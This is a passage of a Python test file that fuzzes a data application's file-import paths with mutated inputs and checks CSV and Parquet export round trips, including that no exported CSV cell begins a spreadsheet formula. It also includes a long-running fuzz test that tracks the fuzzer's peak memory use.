            data = _mutated(rng, idm_seed)
            if rng.random() < 0.3:  # JSON Lines
                data = data + b"\n" + _mutated(rng, idm_seed)
        if door in ("xlsx", "zip", "csv"):
            path = target.with_suffix(".csv" if door == "csv" else ".xlsx")
            path.write_bytes(data)
            attempt(door, functools.partial(import_entries, plan, path, partial=partial), data)
        elif door == "idm":
            path = target.with_suffix(".json")
            path.write_bytes(data)
            attempt(door, functools.partial(idm._idm_records, [str(path)]), data)
        else:
            text = _mutated(rng, b"source text").decode("utf-8", "replace")
            data = text.encode("utf-8", "surrogatepass")
            attempt(door, functools.partial(_export_round_trip, small, text, tmp_path), data)
    return {**counts, "escapes": escapes, "slowest": slowest, "peak_rss": _peak_rss()}


def _peak_rss() -> int:
    """This program's peak resident memory in bytes.

    Linux's ``VmHWM`` starts again with a new program; ``ru_maxrss`` does not: a child
    started from a large pytest process reports the parent's size at the fork (measured: a
    child of a 600 MB process said 583 MB by ``ru_maxrss``, 10 MB by ``VmHWM``)."""
    import resource

    status = Path("/proc/self/status")
    if status.exists():
        found = re.search(r"^VmHWM:\s+(\d+) kB", status.read_text(), re.MULTILINE)
        if found:
            return int(found.group(1)) * 1024
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024  # pragma: no cover


def _export_round_trip(plan: MonitoringPlan, text: str, folder: Path) -> None:
    """An observation whose source and note are ``text``, exported: the CSV reads back as
    written (through from_cell), no cell begins a formula; the Parquet file has the kind's
    schema."""
    import pyarrow.parquet as pq

    first = attrs.evolve(plan.observations[0], source=text or None, note=text or None)
    plan = attrs.evolve(plan, observations=(first, *plan.observations[1:]))
    rows = observation_rows(plan)
    written = export.csv_text(rows, OBSERVATION_COLUMNS)
    table = list(csv.reader(io.StringIO(written, newline="")))
    for cells in table:
        for cell in cells:
            assert cell[:1] not in ("=", "+", "@", "\t", "\r"), cell
            assert not cell.startswith("-") or re.fullmatch(r"-[0-9.]+", cell), cell
    source = table[1][OBSERVATION_COLUMNS.index("source")]
    assert from_cell(source) == (first.source or ""), (source, first.source)
    path = folder / "export.parquet"
    write_rows(rows, OBSERVATION_COLUMNS, path, format="parquet")
    assert pq.read_schema(path) == export.arrow_schema(OBSERVATION_COLUMNS)


def test_the_doors_fuzzer_finds_no_escape(tmp_path: Path) -> None:
    found = _fuzz(tmp_path, 300, 20220413)
    assert found["escapes"] == []
    assert found["refused"] > found["inputs"] // 10  # the mutations reach the checks
    assert found["read"] > 0


@pytest.mark.slow
def test_the_doors_fuzzer_long_run(tmp_path: Path) -> None:
    total = int(os.environ.get("DESACOOP_FUZZ_COUNT", "100000"))
    seed = int(os.environ.get("DESACOOP_FUZZ_SEED", "19"))
    # a fresh process: its peak memory is the fuzzer's, not that of the tests run before it
    # in the same pytest process (_peak_rss says how the child measures its own)
    script = (
        "import json, sys; from pathlib import Path; from tests.test_doors import _fuzz; "
        f"print(json.dumps(_fuzz(Path(sys.argv[1]), {total}, {seed}), default=str))"
    )
    root = Path(__file__).resolve().parents[1]
    done = subprocess.run(
        [sys.executable, "-c", script, str(tmp_path)],
        cwd=root,
        capture_output=True,
        text=True,
        check=True,
    )
    found = json.loads(done.stdout.strip().splitlines()[-1])
    print(f"\ndoors fuzzer: {found}")
    assert found["escapes"] == []
    assert found["slowest"][0] < 2.0
    assert found["peak_rss"] < 500_000_000
